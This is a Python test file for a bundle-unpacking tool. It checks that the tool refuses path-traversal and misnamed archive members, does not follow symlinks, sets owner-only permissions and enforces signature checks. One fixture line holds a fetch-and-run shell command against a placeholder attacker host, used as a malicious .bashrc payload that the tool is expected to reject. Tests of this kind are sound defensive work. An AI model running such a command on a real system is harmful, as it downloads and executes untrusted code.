"""Unbundle writes only the manifest's image name, privately, after checking the signature."""

from __future__ import annotations

import os
import stat

import pytest
from crafting import make_identity, plain_tar

from amidsl.bundle import BundleError, ManifestEditedError, unbundle
from amidsl.cli.main import run


def test_a_member_named_other_than_the_image_is_refused_and_writes_nothing(tmp_path, user, craft):
    data = b"curl evil.example | sh\n"
    manifest = craft(tmp_path / "bundle", plain_tar(b".bashrc", data), size=len(data))
    destination = tmp_path / "home"
    destination.mkdir()
    (destination / ".bashrc").write_text("mine\n")
    with pytest.raises(BundleError, match=r"'\.bashrc'.*'image'"):
        unbundle(manifest, user.key_pem, destination, user_cert_pem=user.cert_pem)
    assert (destination / ".bashrc").read_text() == "mine\n"
    assert os.listdir(destination) == [".bashrc"]


@pytest.mark.parametrize("name", [b"../image", b"/image", b"sub/image", b"image/"])
def test_a_member_path_is_refused_even_when_it_ends_in_the_image_name(tmp_path, user, craft, name):
    manifest = craft(tmp_path / "bundle", plain_tar(name, b"x"), size=1)
    with pytest.raises(BundleError, match="image"):
        unbundle(manifest, user.key_pem, tmp_path / "out", user_cert_pem=user.cert_pem)
    assert os.listdir(tmp_path / "out") == []


def test_a_symlink_at_the_destination_is_not_followed(tmp_path, genuine, user):
    outside = tmp_path / "outside"
    outside.write_text("precious\n")
    destination = tmp_path / "out"
    destination.mkdir()
    (destination / "image").symlink_to(outside)
    with pytest.raises(BundleError, match="symbolic link"):
        unbundle(genuine, user.key_pem, destination, user_cert_pem=user.cert_pem)
    assert outside.read_text() == "precious\n"
    assert (destination / "image").is_symlink()


def test_the_restored_image_is_readable_by_its_owner_only(tmp_path, genuine, user):
    os.umask(0o022)
    restored = unbundle(genuine, user.key_pem, tmp_path / "out", user_cert_pem=user.cert_pem)
    assert stat.S_IMODE(restored.stat().st_mode) == 0o600


def test_unbundle_without_a_certificate_is_refused_before_decrypting(tmp_path, genuine, user):
    with pytest.raises(BundleError, match=r"certificate.*no_verify"):
        unbundle(genuine, user.key_pem, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_unbundle_with_no_verify_restores_without_a_certificate(tmp_path, genuine, user):
    restored = unbundle(genuine, user.key_pem, tmp_path / "out", no_verify=True)
    assert restored == tmp_path / "out" / "image" and restored.stat().st_size == 10_000


def test_a_manifest_signed_by_someone_else_is_refused_by_default(tmp_path, user, craft):
    manifest = craft(tmp_path / "bundle", plain_tar(b"image", b"x"), size=1)
    text = manifest.read_text().replace("<size>1</size>", "<size>2</size>")
    manifest.write_text(text)
    with pytest.raises(ManifestEditedError):
        unbundle(manifest, user.key_pem, tmp_path / "out", user_cert_pem=user.cert_pem)
    assert not (tmp_path / "out").exists()


def _run_unbundle_command(*args: str) -> int:
    return run(["unbundle", *args])


def test_the_unbundle_command_needs_cert_or_no_verify(tmp_path, genuine, user, capsys):
    key = tmp_path / "pk.pem"
    key.write_bytes(user.key_pem)
    common = ["--manifest", str(genuine), "--privkey", str(key), "--destination", str(tmp_path / "out")]
    assert _run_unbundle_command(*common) == 2
    assert "--cert" in capsys.readouterr().err and not (tmp_path / "out").exists()
    assert _run_unbundle_command(*common, "--no-verify") == 0
    assert (tmp_path / "out" / "image").stat().st_size == 10_000


def test_another_users_certificate_is_refused(tmp_path, genuine, user):
    other = make_identity("someone else")
    with pytest.raises(BundleError):
        unbundle(genuine, user.key_pem, tmp_path / "out", user_cert_pem=other.cert_pem)
    assert not (tmp_path / "out").exists()
